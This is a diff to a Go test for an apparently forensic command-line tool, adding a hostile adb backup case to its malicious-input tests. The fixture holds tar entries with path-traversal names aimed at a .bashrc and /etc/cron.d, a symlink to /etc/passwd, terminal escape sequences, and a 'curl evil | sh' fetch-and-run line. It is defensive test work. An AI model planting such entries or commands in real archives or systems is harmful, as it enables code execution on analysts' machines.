@@ -1,6 +1,7 @@
 package cli
 
 import (
+	"archive/tar"
 	"bytes"
 	"context"
 	"crypto/sha256"
@@ -561,9 +562,9 @@ func writeZip(t *testing.T, name string, data []byte) string {
 // the ratio limit applies, inflating about 800 times.
 const hostileBomb = 96 << 20
 
-// TestHostileAndroid checks hostile bug reports and androidqf collections through the
-// whole CLI: zip bombs, unsafe names and links in zips, deeply nested JSON, names with
-// control characters, a named pipe in a folder.
+// TestHostileAndroid checks hostile bug reports, androidqf collections and adb backups
+// through the whole CLI: zip bombs, unsafe names and links in zips and in a backup's
+// tar, deeply nested JSON, names with control characters, a named pipe in a folder.
 func TestHostileAndroid(t *testing.T) {
 	iocs := androidIndicators(t)
 	brFiles, _, err := fixture.ScenarioBugreportFiles(true)
@@ -590,6 +591,20 @@ func TestHostileAndroid(t *testing.T) {
 	brBase := soundTwin(t, filepath.Dir(soundBR), "android", "check-bugreport", "-q", "-i", iocs, soundBR)
 	soundQF := writeZip(t, "androidqf.zip", zipWith(t, qf))
 	qfBase := soundTwin(t, filepath.Dir(soundQF), "android", "check-androidqf", "-q", "-i", iocs, soundQF)
+	writeAB := func(t *testing.T, extra ...fixture.AndroidBackupFile) string {
+		t.Helper()
+		ab, _, err := fixture.ScenarioAndroidBackup(true, "", extra...)
+		if err != nil {
+			t.Fatal(err)
+		}
+		p := filepath.Join(t.TempDir(), "backup.ab")
+		if err := os.WriteFile(p, ab, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+	soundAB := writeAB(t)
+	abBase := soundTwin(t, filepath.Dir(soundAB), "android", "check-backup", "-q", "-i", iocs, soundAB)
 	without := func(files map[string][]byte, names ...string) map[string][]byte {
 		out := map[string][]byte{}
 		for k, v := range files {
@@ -675,6 +690,27 @@ func TestHostileAndroid(t *testing.T) {
 				for _, n := range []string{"home/analyst", "/etc/cron.d/evil", "C:/Windows", "evil.bat"} {
 					assertProblem(t, r.info, "unsafe_path", n)
 				}
+			},
+		},
+		{
+			name: "adb backup with unsafe names, links and control characters in its tar", command: "check-backup", base: abBase,
+			input: func(t *testing.T) string {
+				return writeAB(t,
+					fixture.AndroidBackupFile{Name: "../../../../home/analyst/.bashrc", Data: []byte("curl evil | sh\n")},
+					fixture.AndroidBackupFile{Name: "/etc/cron.d/evil", Data: []byte("* * * * * root sh\n")},
+					fixture.AndroidBackupFile{Name: "apps/com.evil/f/../../../../../evil", Data: []byte("outside")},
+					fixture.AndroidBackupFile{Name: fixture.AndroidTelephonyDir + "/link", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"},
+					fixture.AndroidBackupFile{Name: "apps/com.evil/f/\x1b]0;title\x07\xff\u202e", Data: []byte("\x1b[2J")})
+			},
+			args: []string{"-v"},
+			want: hostileExpect{minOK: 1},
+			check: func(t *testing.T, r hostileResult) {
+				// An absolute name is read below the backup's root, as tar extracts it.
+				for _, n := range []string{"home/analyst", "apps/com.evil/f/../", "not valid UTF-8"} {
+					assertProblem(t, r.info, "unsafe_path", n)
+				}
+				assertAlert(t, r, "ioc/domain")
+				assertNoRawControls(t, r)
 			},
 		},
 		{
